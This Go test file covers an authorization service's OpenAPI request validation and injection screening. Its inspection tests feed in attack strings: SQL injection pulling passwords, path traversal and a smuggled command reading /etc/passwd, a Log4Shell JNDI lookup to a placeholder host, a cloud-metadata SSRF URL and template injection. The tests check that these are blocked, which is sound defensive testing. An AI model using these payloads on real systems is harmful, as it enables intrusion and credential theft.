package authz

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	neturl "net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	authpb "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"

	"github.com/portcullis/portcullis/detect/inspect"
	"github.com/portcullis/portcullis/enforce/authz/schema"
	"github.com/portcullis/portcullis/ingest/openapi"
)

// orders describes what the API behind the gateways of the tests has.
const orders = `openapi: 3.1.0
info: {title: orders, version: "1"}
paths:
  /api/v1/orders/{id}:
    parameters: [{name: id, in: path, required: true, schema: {type: integer, minimum: 1}}]
    get:
      parameters: [{name: limit, in: query, schema: {type: integer, maximum: 100}}]
      responses: {"200": {description: x}}
    put:
      requestBody:
        required: true
        content: {application/json: {schema: {type: object, required: [item], additionalProperties: false, properties: {item: {type: string, maxLength: 40}}}}}
      responses: {"200": {description: x}}
  /api/v1/search: {get: {parameters: [{name: q, in: query, schema: {type: string}}], responses: {"200": {description: x}}}}
`

// screened are settings that hold requests against orders.
func screened(t testing.TB, validate, look string) (Config, Deps) {
	t.Helper()
	name := filepath.Join(t.TempDir(), "orders.yaml")
	if err := os.WriteFile(name, []byte(orders), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := Config{Listen: "127.0.0.1:0", ListenGRPC: "127.0.0.1:0", Validate: Validate{Mode: validate}, Inspect: Inspect{Mode: look}}
	rules, err := cfg.Rules([]openapi.Document{{File: name, Covers: []string{"/api"}}})
	if err != nil {
		t.Fatal(err)
	}
	d := testDeps()
	d.Rules = rules
	return cfg, d
}

// screening makes a service that never listens, with an empty list.
func screenedService(t testing.TB, validate, look string) (*Service, *bytes.Buffer) {
	t.Helper()
	cfg, d := screened(t, validate, look)
	said := &bytes.Buffer{}
	d.Log = slog.New(slog.NewTextHandler(said, nil))
	s, err := New(cfg, d)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Apply(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	return s, said
}

// put asks about a request that a gateway sends with its body.
func (s *Service) put(method, target, kind, body string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(http.MethodGet, "http://authz/authz", strings.NewReader(body))
	r.RemoteAddr = "127.0.0.1:9"
	for name, v := range map[string]string{"X-Forwarded-For": "192.0.2.1", "X-Forwarded-Method": method, "X-Forwarded-Uri": target, "Content-Type": kind} {
		if v != "" {
			r.Header.Set(name, v)
		}
	}
	w := httptest.NewRecorder()
	s.Handler().ServeHTTP(w, r)
	return w
}

// TestValidate: what is refused, in which words, and what is only counted.
func TestValidate(t *testing.T) {
	const json1 = "application/json"
	for _, x := range []struct {
		method, target, kind, body string
		status                     int
		problem, faulty            string
	}{
		{"GET", "/api/v1/orders/7?limit=5", "", "", 200, "", ""},
		{"PUT", "/api/v1/orders/7", json1, `{"item":"tea"}`, 200, "", ""},
		{"GET", "/img/logo.png?v=1", "", "", 200, "", ""},
		{"GET", "/api/v1/orders/x", "", "", 400, `[{"in":"path","name":"id","detail":"must be an integer"}]`, "parameter"},
		{"GET", "/api/v1/orders/7?limit=500", "", "", 400, `[{"in":"query","name":"limit","detail":"must be at most 100"}]`, "parameter"},
		{"GET", "/api/v1/none", "", "", 404, `[{"in":"path","detail":"there is no such path"}]`, "route"},
		{"DELETE", "/api/v1/orders/7", "", "", 405, `[{"detail":"the path has no such method"}]`, "method"},
		{"GET", "/api/v1/orders/..%2f7", "", "", 400, `[{"in":"path","detail":"is written in a way that servers read differently"}]`, "spelling"},
		{"PUT", "/api/v1/orders/7", json1, `{"item":7}`, 400, `[{"in":"body","name":"/item","detail":"must be a string"}]`, "body"},
		{"PUT", "/api/v1/orders/7", "text/plain", `x`, 415, `[{"in":"body","detail":"is of a type that is not described"}]`, "media"},
		{"PUT", "/api/v1/orders/7", json1, strings.Repeat(" ", 70000) + `{}`, 413, `[{"in":"body","detail":"is larger than is looked at"}]`, "size"},
	} {
		for _, mode := range []string{modeEnforce, modeObserve} {
			s, said := screenedService(t, mode, "off")
			w := s.put(x.method, x.target, x.kind, x.body)
			want := x.status
			if mode == modeObserve {
				want = 200
			}
			var p struct {
				Status int
				Errors json.RawMessage
			}
			_ = json.Unmarshal(w.Body.Bytes(), &p)
			if w.Code != want || want != 200 && (p.Status != want || string(p.Errors) != x.problem) {
				t.Errorf("%s %s %s: %d %s", mode, x.method, x.target, w.Code, w.Body)
			}
			if (w.Code == 405) != (w.Header().Get("Allow") == "GET, HEAD, OPTIONS, PUT") {
				t.Errorf("%s: Allow is %q", x.target, w.Header().Get("Allow"))
			}
			st := s.Stats()
			for f, n := range st.Faulty {
				if there := f.Kind == x.faulty && f.Refused == (mode == modeEnforce); there != (n == 1) {
					t.Errorf("%s %s: %+v is %d", mode, x.target, f, n)
				}
			}
			if told := strings.Contains(said.String(), "kind="+x.faulty); x.faulty != "" && !told || st.Allowed+st.FaultyRefused != 1 || (st.FaultyRefused == 1) != (want != 200) {
				t.Errorf("%s %s: %+v\n%s", mode, x.target, st, said)
			}
		}
	}
}

// TestBlockedGoesFirst: who is blocked learns nothing of the API, and the settings for
// undecided requests do not switch the looking off.
func TestBlockedGoesFirst(t *testing.T) {
	s, _ := screenedService(t, modeEnforce, "off")
	if w := s.put("GET", "/api/v1/orders/x", "", ""); w.Code != 400 {
		t.Errorf("before: %d", w.Code)
	}
	if _, err := s.Apply(t.Context(), blockOf("192.0.2.1/32")); err != nil {
		t.Fatal(err)
	}
	if w := s.put("GET", "/api/v1/orders/x", "", ""); w.Code != 403 || strings.Contains(w.Body.String(), "errors") {
		t.Errorf("blocked: %d %s", w.Code, w.Body)
	}
	if w := s.forwarded("127.0.0.1:9", "127.0.0.7", "/api/v1/none"); w.Code != 200 {
		t.Errorf("a hop of our own: %d", w.Code)
	}
	cfg, d := screened(t, modeEnforce, "off")
	fresh, err := New(cfg, d) // without a list
	if err != nil {
		t.Fatal(err)
	}
	if w := fresh.put("GET", "/api/v1/orders/x", "", ""); w.Code != 400 {
		t.Errorf("without a list: %d", w.Code)
	}
}

// TestInspect: attacks in each part of a request, and honest requests beside them.
func TestInspect(t *testing.T) {
	const sqli = "1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
	for _, x := range []struct {
		name, target, header, value, kind, body string
		status                                  int
	}{
		{"query", "/api/v1/search?q=" + sqli, "", "", "", "", 403},
		{"path", "/api/v1/..%2f..%2f..%2f..%2fetc%2fpasswd", "", "", "", "", 403},
		{"header", "/", "X-Forwarded-Host", "${jndi:ldap://192.0.2.9/a}", "", "", 403},
		{"agent", "/", "User-Agent", "${jndi:ldap://192.0.2.9/a}", "", "", 403},
		{"form", "/login", "", "", "application/x-www-form-urlencoded", "user=" + sqli, 403},
		{"json", "/login", "", "", "application/json", `{"user":"1' UNION SELECT user,password FROM users--"}`, 403},
		{"padded", "/", "X-Last", "${jndi:ldap://192.0.2.9/a}", "text/plain", strings.Repeat("honest text ", 4000), 403},
		{"inner host", "/api/v1/search?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", "", "", "", "", 403},
		{"template", "/api/v1/search?q=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", "", "", "", "", 403},
		{"command", "/api/v1/search?host=x%3Bcat%20%2Fetc%2Fpasswd", "", "", "", "", 403},
		{"only a hidden file", "/.env", "", "", "", "", 200},
		{"an apostrophe", "/api/v1/search?q=O%27Brien%20and%20sons", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64)", "", "", 200},
		{"prose", "/", "", "", "application/json", `{"text":"Please select a plan from the list; 1 or 2 of them, it's fine."}`, 200},
	} {
		for _, mode := range []string{modeEnforce, modeObserve} {
			s, said := screenedService(t, "off", mode)
			r := httptest.NewRequest(http.MethodPost, "http://authz/authz", strings.NewReader(x.body))
			r.RemoteAddr = "127.0.0.1:9"
			for name, v := range map[string]string{"X-Forwarded-For": "192.0.2.1", "X-Forwarded-Method": "POST", "X-Forwarded-Uri": x.target, "Content-Type": x.kind, x.header: x.value} {
				if v != "" {
					r.Header.Set(name, v)
				}
			}
			w := httptest.NewRecorder()
			s.Handler().ServeHTTP(w, r)
			want, st := x.status, s.Stats()
			if mode == modeObserve {
				want = 200
			}
			if found := st.Faulty[Faulty{kindInjection, mode == modeEnforce}]; w.Code != want || (found == 1) != (x.status == 403) {
				t.Errorf("%s, %s: %d, %+v", x.name, mode, w.Code, st.Faulty)
			}
			for _, word := range []string{"jndi", "UNION", "passwd"} {
				if strings.Contains(w.Body.String()+said.String(), word) {
					t.Errorf("%s: the attack is told back or logged: %s %s", x.name, w.Body, said)
				}
			}
		}
	}
}

// TestHonestCredentials: what looks random is no attack: tokens, keys, cookies, ids.
func TestHonestCredentials(t *testing.T) {
	s, _ := screenedService(t, "off", modeObserve)
	r := rand.New(rand.NewPCG(11, 12))
	random := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return b
	}
	b64 := func(n int) string { return base64.StdEncoding.EncodeToString(random(n)) }
	url := func(n int) string { return base64.RawURLEncoding.EncodeToString(random(n)) }
	for range 2000 {
		s.forwarded("127.0.0.1:9", "192.0.2.1", fmt.Sprintf("/api/v1/orders/%x?cursor=%s&sig=%s", random(8), url(30), neturl.QueryEscape(b64(32))),
			"Authorization", "Bearer "+url(30)+"."+url(120)+"."+url(32), "X-Api-Key", b64(24), "Cookie", "sid="+b64(20)+"; csrf="+url(16),
			"If-None-Match", `W/"`+url(12)+`"`, "Traceparent", fmt.Sprintf("00-%x-%x-01", random(16), random(8)), "User-Agent", "shop/1.2 (Linux; Android 14) okhttp/4.12.0")
	}
	if n := s.Stats().Faulty[Faulty{kindInjection, false}]; n != 0 {
		t.Errorf("%d of 2000 honest requests would be refused", n)
	}
}

// TestExposureHidesNothing: a stronger sign of something harmless is no cover for an attack.
func TestExposureHidesNothing(t *testing.T) {
	for _, x := range []struct {
		v    inspect.Verdict
		want bool
	}{
		{inspect.Verdict{}, false},
		{inspect.Verdict{Score: 79, Class: "sqli", Classes: []string{"sqli"}}, false},
		{inspect.Verdict{Score: 80, Class: "sqli", Classes: []string{"sqli"}}, true},
		{inspect.Verdict{Score: 60, Class: "sqli", Classes: []string{"sqli"}, NearCertain: true}, true},
		{inspect.Verdict{Score: 100, Class: inspect.Exposure, Classes: []string{inspect.Exposure}, NearCertain: true}, false},
		{inspect.Verdict{Score: 100, Class: inspect.Exposure, Classes: []string{inspect.Exposure, "sqli"}}, true},
	} {
		if got := refusable(x.v, 80); got != x.want {
			t.Errorf("%+v: %v", x.v, got)
		}
	}
}

// TestScreenFailsOpen: what fails while it looks is counted, and the request passes.
func TestScreenFailsOpen(t *testing.T) {
	s, said := screenedService(t, modeEnforce, "off")
	w := s.worker()
	broken := *w
	broken.checker = &schema.Checker{} // without rules it panics
	s.workers.New = func() any { return &broken }
	v := s.screen(&broken, verdict{})
	if v.outcome != allowed { // nothing was seen of the request
		t.Errorf("%+v", v)
	}
	broken.seen.fields = headerFields{}
	if v = s.screen(&broken, verdict{}); v.outcome != allowed || s.Stats().Faulty[Faulty{kindError, false}] != 1 || !strings.Contains(said.String(), "kind=error") {
		t.Errorf("%+v %+v\n%s", v, s.Stats(), said)
	}
	broken.ev.Method, broken.ev.Target = "GET", "/api/v1/none"
	if v = s.screen(&broken, verdict{}); v.outcome != faulty {
		t.Errorf("afterwards: %+v", v)
	}
}

// TestSeenByEnvoy: bodies as text and as bytes, whole and cut.
func TestSeenByEnvoy(t *testing.T) {
	for _, x := range []struct {
		h         *authpb.AttributeContext_HttpRequest
		body      string
		sent, cut bool
	}{
		{&authpb.AttributeContext_HttpRequest{}, "", false, false},
		{&authpb.AttributeContext_HttpRequest{Headers: map[string]string{partialField: "false"}}, "", true, false},
		{&authpb.AttributeContext_HttpRequest{Headers: map[string]string{partialField: "false"}, Body: "abc"}, "abc", true, false},
		{&authpb.AttributeContext_HttpRequest{Headers: map[string]string{partialField: "true"}, RawBody: []byte("abc")}, "abc", true, true},
		{&authpb.AttributeContext_HttpRequest{RawBody: []byte("abcdef")}, "abcd", true, true},
	} {
		if got := seenBy(x.h, 4); string(got.body) != x.body || got.sent != x.sent || got.cut != x.cut {
			t.Errorf("%v: %+v", x.h.Headers, got)
		}
	}
}

// TestScreenSettings: what is wrong with the settings is told by key.
func TestScreenSettings(t *testing.T) {
	c := Config{MaxBody: 5, Validate: Validate{MaxDepth: 1, Documents: []openapi.Document{{}}}, Inspect: Inspect{Score: 20}}
	var keys []string
	c.Check(func(key, _ string) { keys = append(keys, key) })
	slices.Sort(keys)
	if got := fmt.Sprint(keys); got != "[inspect.score max_body validate.documents[0].file validate.max_depth]" {
		t.Error(got)
	}
	on := Config{Listen: "127.0.0.1:0", Validate: Validate{Mode: modeObserve}}
	if _, err := on.Rules(nil); err == nil || !strings.Contains(err.Error(), "authz.validate.documents") {
		t.Errorf("no document: %v", err)
	}
	if _, err := New(on, testDeps()); err == nil {
		t.Error("it validates against nothing")
	}
}

// BenchmarkScreen: what looking at a request costs, beside the decision by the list.
func BenchmarkScreen(b *testing.B) {
	body := `{"item":"` + strings.Repeat("green tea, ", 3) + `"}`
	agent := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	for _, x := range []struct{ name, validate, look, method, body string }{
		{"off", "off", "off", "GET", ""}, {"validate", modeEnforce, "off", "GET", ""}, {"validate a body", modeEnforce, "off", "PUT", body},
		{"inspect", "off", modeEnforce, "GET", ""}, {"both, with a body", modeEnforce, modeEnforce, "PUT", body},
	} {
		b.Run(x.name, func(b *testing.B) {
			s, _ := screenedService(b, x.validate, x.look)
			r := rand.New(rand.NewPCG(1, 2))
			took := make([]time.Duration, 0, b.N)
			h := headerFields{"User-Agent": {agent}, "Accept": {"*/*"}, "Content-Type": {"application/json"}, "X-Forwarded-For": {"192.0.2.1"}, "Cookie": {"session=0123456789abcdef"}}
			b.ReportAllocs()
			b.ResetTimer()
			for range b.N {
				target := fmt.Sprintf("/api/v1/orders/%d", 1+r.IntN(1e6))
				start := time.Now()
				w := s.worker()
				w.ev.Peer, w.ev.Chain, w.ev.Method, w.ev.Target = loopback, "192.0.2.1", x.method, target
				if s.screens() {
					w.seen = seen{fields: h, body: []byte(x.body), sent: x.body != ""}
				}
				if v := s.decide(context.Background(), w, 1); v.outcome != allowed {
					b.Fatalf("%+v", v.refusal)
				}
				s.giveBack(w)
				took = append(took, time.Since(start))
			}
			b.StopTimer()
			report(b, took)
		})
	}
}
